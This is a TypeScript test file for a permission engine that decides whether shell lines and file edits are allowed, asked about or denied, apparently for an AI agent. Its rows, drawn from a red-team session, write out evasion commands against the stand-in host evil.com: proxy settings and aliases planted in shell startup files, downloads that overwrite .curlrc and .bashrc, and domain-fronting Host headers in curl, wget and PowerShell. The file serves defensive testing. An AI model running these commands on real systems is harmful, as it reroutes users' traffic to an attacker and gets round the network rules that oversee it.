// Network reach found by session 41's red team of Domain rules (shell lines and operations): hosts
// a line or operation reaches, or may send later traffic to, that a deny rule names while the
// engine allowed them. Rows pin each hole closed; the ordinary lines beside them keep their decision.
import { describe, it } from 'vitest';
import { lineTable } from './helpers/line-table.js';
import { expectDecision, REPO_LINUX, REPO_WINDOWS, type Rules } from './helpers/policy.js';

const DENY_EVIL: Rules = {
  deny: ['Domain(evil.com)', 'Domain(*.evil.org)', 'Domain(6.6.6.6)', 'Read(//etc/**)'],
  allow: ['Shell(*)', 'Read(//**)', 'Edit(//**)', 'Domain(*)'],
};
/** Domain allow rules only: nothing for an unknown host to be. */
const ALLOW_ONLY: Rules = { allow: ['Shell(*)', 'Read(//**)', 'Edit(//**)', 'Domain(good.com)'] };

describe('a shell startup file is where later shells take their proxies and aliases: writing one is an unknown host', () => {
  lineTable(DENY_EVIL, [
    ["echo 'export https_proxy=evil.com' >> ~/.bashrc", 'ask'],
    ["echo 'export https_proxy=evil.com' >> ~/.profile", 'ask'],
    ["echo 'export HTTPS_PROXY=evil.com' >> ~/.zshrc", 'ask'],
    ["echo 'export https_proxy=evil.com' >> ~/.zshenv", 'ask'],
    ["echo 'export https_proxy=evil.com' >> ~/.bash_profile", 'ask'],
    ["echo 'set -gx https_proxy evil.com' >> ~/.config/fish/config.fish", 'ask'],
    ["echo 'set -gx https_proxy evil.com' > ~/.config/fish/conf.d/p.fish", 'ask'],
    ["echo 'https_proxy=evil.com' > ~/.config/environment.d/p.conf", 'ask'],
    ["echo 'export https_proxy=evil.com' > .envrc", 'ask'],
    ['echo \'alias curl="curl -x evil.com"\' >> ~/.bashrc', 'ask'],
    ["printf 'export https_proxy=evil.com\\n' | tee -a ~/.bashrc", 'ask'],
    ['cp x ~/.bashrc', 'ask'],
    ["sed -i 's/a/b/' ~/.profile", 'ask'],
    ["echo 'alias ll=\"ls -l\"' >> ~/.bashrc", 'ask'],
    ['cat notes >> ~/.bashrc', 'ask'],
    ["echo 'export https_proxy=evil.com' >> notes.txt", 'allow'],
    ['cat ~/.bashrc', 'allow'],
  ]);
  lineTable(ALLOW_ONLY, [
    ["echo 'alias ll=\"ls -l\"' >> ~/.bashrc", 'allow'],
  ]);
  lineTable(DENY_EVIL, [
    ["Add-Content C:\\Users\\dev\\Documents\\PowerShell\\Microsoft.PowerShell_profile.ps1 '$env:HTTPS_PROXY=\"evil.com\"'", 'ask'],
    ["Set-Content -Path C:\\Users\\dev\\Documents\\WindowsPowerShell\\profile.ps1 -Value 'x'", 'ask'],
    ["Set-Content -Path C:\\w\\repo\\build.ps1 -Value 'x'", 'allow'],
  ], 'pwsh', REPO_WINDOWS);
});

describe('a downloader writing a traffic settings or startup file: an unknown host', () => {
  lineTable(DENY_EVIL, [
    ['curl -o ~/.curlrc https://good.com/x', 'ask'],
    ['wget -O ~/.wgetrc https://good.com/x', 'ask'],
    ['curl -o ~/.bashrc https://good.com/x', 'ask'],
    ['curl -o x.txt https://good.com/x', 'allow'],
  ]);
  lineTable(DENY_EVIL, [
    ['Invoke-WebRequest https://good.com/x -OutFile C:\\Users\\dev\\.npmrc', 'ask'],
    ['Invoke-WebRequest https://good.com/x -OutFile C:\\w\\repo\\x.txt', 'allow'],
  ], 'pwsh', REPO_WINDOWS);
});

describe('an Edit operation of a file that routes later traffic asks where Domain deny or ask rules exist', () => {
  it.each([
    ['/home/dev/.curlrc', REPO_LINUX],
    ['~/.wgetrc', REPO_LINUX],
    ['/home/dev/.npmrc', REPO_LINUX],
    ['/w/repo/.npmrc', REPO_LINUX],
    ['/home/dev/.gitconfig', REPO_LINUX],
    ['/w/repo/.git/config', REPO_LINUX],
    ['/w/repo/./.git/../.git/config', REPO_LINUX],
    ['/home/dev/.ssh/config', REPO_LINUX],
    ['/home/dev/.bashrc', REPO_LINUX],
    ['/home/dev/.config/fish/config.fish', REPO_LINUX],
    ['/home/dev/.docker/config.json', REPO_LINUX],
    ['C:\\Users\\dev\\.curlrc', REPO_WINDOWS],
    ['C:\\Users\\dev\\_CURLRC', REPO_WINDOWS],
    ['C:\\Users\\dev\\.gitconfig.', REPO_WINDOWS],
    ['C:\\Windows\\System32\\drivers\\etc\\hosts', REPO_WINDOWS],
    ['C:\\Users\\dev\\Documents\\PowerShell\\Microsoft.PowerShell_profile.ps1', REPO_WINDOWS],
  ])('edit %s -> ask', (path, context) => {
    expectDecision(DENY_EVIL, 'edit', path, 'ask', context);
  });
  it('edit through a link whose target routes traffic -> ask', () => {
    const context = { ...REPO_LINUX, resolveSymlink: (p: string) => (p === '/w/repo/notes' ? '/home/dev/.curlrc' : undefined) };
    expectDecision(DENY_EVIL, 'edit', '/w/repo/notes', 'ask', context);
  });
  it.each([
    ['edit', '/w/repo/src/x.ts', DENY_EVIL, 'allow'],
    ['edit', '/w/repo/.git/config.bak', DENY_EVIL, 'allow'],
    ['read', '/home/dev/.curlrc', DENY_EVIL, 'allow'],
    ['edit', '/home/dev/.curlrc', ALLOW_ONLY, 'allow'],
    ['edit', '/home/dev/.bashrc', ALLOW_ONLY, 'allow'],
  ] as const)('%s %s -> %s (no host: not an edit of such a file, or no Domain deny or ask rule)', (kind, path, rules, expected) => {
    expectDecision(rules, kind, path, expected, REPO_LINUX);
  });
});

/** A CDN's address allowed, as an administrator might for a mirror. */
const DENY_EVIL_CDN: Rules = {
  deny: ['Domain(evil.com)', 'Domain(*.evil.org)', 'Read(//etc/**)'],
  allow: ['Shell(*)', 'Read(**)', 'Edit(**)', 'Domain(good.com)', 'Domain(1.2.3.5)', 'Domain(http://1.2.3.5)'],
};

describe('the Host header routes a request at a CDN (domain fronting): its host is a Domain part', () => {
  lineTable(DENY_EVIL_CDN, [
    ["curl -H 'Host: evil.com' https://1.2.3.5", 'deny'],
    ['curl -H "Host:a.evil.org" https://good.com', 'deny'],
    ['curl -HHost:evil.com https://good.com', 'deny'],
    ['curl --header host:evil.com https://good.com', 'deny'],
    ["curl -H $'X-A: 1\\r\\nHost: evil.com' https://good.com", 'deny'],
    ['curl -H "Host: $H" https://good.com', 'ask'],
    ['curl -H "$HDR" https://good.com', 'ask'],
    ['curl -H @headers.txt https://good.com', 'ask'],
    ['curl --request-target https://evil.com/ https://good.com', 'deny'],
    ["curl -H 'Host: intranet.local' https://good.com", 'ask'],
    ['wget --header=Host:evil.com http://1.2.3.5', 'deny'],
    ["wget --header='Host: evil.com' http://1.2.3.5", 'deny'],
    ["aria2c --header='Host: evil.com' https://good.com", 'deny'],
    ["aria2c --header 'Host: evil.com' https://good.com", 'deny'],
    ["curl -H 'Host: good.com' https://1.2.3.5", 'allow'],
    ['curl -H "Authorization: Bearer $TOKEN" https://good.com', 'allow'],
    ["curl -H 'Accept: application/json' https://good.com", 'allow'],
    ['curl --request-target /x https://good.com', 'allow'],
    ["wget --header 'Accept: x' https://good.com", 'allow'],
  ]);
  lineTable(DENY_EVIL_CDN, [
    ["Invoke-WebRequest -Headers @{Host='evil.com'} https://1.2.3.5", 'deny'],
    ["Invoke-WebRequest https://1.2.3.5 -Headers @{Accept='x'; host = 'evil.com'}", 'deny'],
    ["Invoke-WebRequest https://1.2.3.5 -Headers @{Accept='x;host=a'; \"Ho`st\" = 'evil.com'}", 'ask'],
    ['Invoke-RestMethod https://good.com -Headers $h', 'ask'],
    ['iwr https://good.com -Headers @{Host=$h}', 'ask'],
    ["Invoke-WebRequest https://good.com -Headers @{Accept='x'}", 'allow'],
    ['Invoke-WebRequest https://good.com -Headers @{Authorization="Bearer $t"}', 'allow'],
  ], 'pwsh', REPO_WINDOWS);
});
